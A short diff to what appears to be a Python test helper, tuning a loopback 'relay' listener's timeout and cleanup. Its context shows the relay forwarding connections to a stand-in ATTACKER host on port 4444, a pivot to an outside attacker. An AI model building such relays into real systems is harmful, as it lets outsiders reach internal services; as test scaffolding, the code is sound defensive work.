@@ -19,11 +19,10 @@ def fetch(label, host, **more):
 def relay(case, marker):
     """A service of the machine's own, on loopback, that hands on what it is told."""
     listener = socket.create_server(("127.0.0.1", 7777))
-    listener.settimeout(5)
-    case.addCleanup(listener.close)
+    listener.settimeout(3)
 
     def serve():
-        with contextlib.suppress(OSError):
+        with listener, contextlib.suppress(OSError):
             inner, _ = listener.accept()
             inner.settimeout(3)
             with inner, socket.create_connection((ATTACKER, 4444), 3) as outer:
